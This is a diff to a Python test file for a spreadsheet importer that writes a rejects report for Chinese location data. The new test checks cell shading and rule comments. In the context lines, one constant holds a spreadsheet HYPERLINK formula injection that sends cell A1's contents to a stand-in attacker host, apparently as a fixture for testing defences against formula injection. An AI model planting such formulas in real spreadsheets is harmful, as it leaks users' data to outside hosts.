@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 
 from importers.mapping import header_test, resolve_columns
 from importers.reading import GEOMETRY_COLUMN, read_table
-from importers.report import ROWS_SHEET, write_report
+from importers.report import BAD_CELL_FILL, ROWS_SHEET, write_report
 from importers.rules import Problem
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
@@ -55,3 +55,29 @@ def test_rows_to_correct_keep_a_gis_geometry_as_wkt_and_read_back(tmp_path: Path
     assert shapely.from_wkt(table.frame.iloc[0]["WKT"]).equals(square)
     columns = resolve_columns(table.headers, ["code", "name", "wkt"])
     assert columns == {"code": "code", "name": "name", "wkt": "WKT"}
+
+
+def test_rows_to_correct_shade_each_bad_cell_with_its_rules(tmp_path: Path) -> None:
+    rows = pd.DataFrame(
+        {"名称": ["", "复安社区"], "经度": ["102.9", "1029"], "纬度": ["24.2", "24.2"]},
+        index=pd.Index([2, 5], name="row"),
+        dtype=object,
+    )
+    problems = [
+        Problem(2, "名称", None, "必填"),
+        Problem(5, "经度", "1029", "点位不在中国境内"),
+        Problem(5, "经度", "1029", "必须是有限的数字"),
+        Problem(5, "经纬度", None, "经度与纬度疑似填反"),  # no such column: reasons only
+        Problem(5, "纬度", "24.2", "已按 GCJ-02 换算", "repaired"),
+    ]
+    path = write_report(tmp_path / "rejects.xlsx", problems, rows)
+    sheet = load_workbook(path)[ROWS_SHEET]
+    shaded = {
+        (c.row, str(sheet.cell(row=1, column=c.column).value)): c.comment.text if c.comment else ""
+        for line in sheet.iter_rows(min_row=2)
+        for c in line
+        if c.fill.fgColor.rgb.endswith(BAD_CELL_FILL)
+    }
+    assert shaded == {(2, "名称"): "必填", (3, "经度"): "点位不在中国境内\n必须是有限的数字"}
+    assert sheet.cell(row=3, column=4).value.endswith("经纬度：经度与纬度疑似填反")
+    assert sheet.freeze_panes == "A2" and sheet.cell(row=1, column=1).font.bold
